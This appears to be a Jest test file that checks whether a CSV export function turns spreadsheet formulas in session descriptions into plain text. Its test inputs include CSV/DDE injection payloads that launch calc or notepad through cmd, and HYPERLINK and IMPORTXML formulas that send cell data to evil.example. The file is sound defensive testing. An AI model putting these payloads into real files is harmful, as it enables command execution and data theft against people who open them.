import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import type { PaySession } from '#lambdas/contract/desk-api.ts';
import { toCsv } from '#lambdas/records/sessions-csv.ts';

/** The last cell of the only row: the description, still quoted. */
function cellOf(description: string): string {
  const session = { captured: {}, description } as unknown as PaySession;
  const row = toCsv([session]).slice(toCsv([]).length);
  const emptyCells = (toCsv([]).match(/","/g) ?? []).length;
  return row.slice('"",'.length * emptyCells, -2);
}

describe('the CSV export', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\0=1', '＝1', '＋1', '－1', '＠1'])(
    'turns the formula %j into text',
    (formula) => {
      expect(cellOf(formula).startsWith(`"'`)).toBe(true);
    },
  );

  it.each([
    ['a semicolon', 'x;=1+1;', `"x;'=1+1;"`],
    ['a semicolon and a quote', 'x; "=1', `"x; ""'=1"`],
    ['a tab', 'x\t=1', `"x\t'=1"`],
    ['a line break', 'x\r\n=1', `"x\r'\n'=1"`],
    ['a bar', 'x|@a', `"x|'@a"`],
  ])('turns a formula behind %s into text, as where that separates cells', (_, given, cell) => {
    expect(cellOf(given)).toBe(cell);
  });

  it.each([
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1-1+cmd|'/C notepad'!A1",
    "-2+3+cmd|'/C calc'!D2",
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
    '=IMPORTXML(CONCAT("https://evil.example?v=",A2:E2),"//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    '\t=1+1',
    '\n@SUM(A1)',
    '"=1+1',
    '"; =1+1',
    '\uFF1D1+1',
    "'=1+1",
  ])('lets no program of the known ones start: %j', (attack) => {
    expect(startsOf(cellOf(attack)).filter((start) => FORMULA.test(start))).toEqual([]);
  });

  it('lets no text start a formula in any cell of any spreadsheet', () => {
    const text = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n;,|"\' a1\0\uFF1D\uFF0B'), maxLength: 14 });
    fc.assert(
      fc.property(text, (description) => {
        const cell = cellOf(description);
        expect(cell.slice(1, -1).replaceAll('""', '')).not.toContain('"');
        expect(startsOf(cell).filter((start) => FORMULA.test(start))).toEqual([]);
      }),
    );
  });

  it('leaves other text as it is, with quotes doubled', () => {
    expect(cellOf('order 12-34; "blue" = yes')).toBe('"order 12-34; ""blue"" = yes"');
  });
});

/** What spreadsheets read as the beginning of a formula. */
const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

/** The content of a cell as spreadsheets of every country would split it. */
function startsOf(quoted: string): readonly string[] {
  const content = quoted.slice(1, -1).replaceAll('""', '"');
  return content.split(/[;|\t\r\n]/).map((part, at) => (at === 0 ? part : part));
}
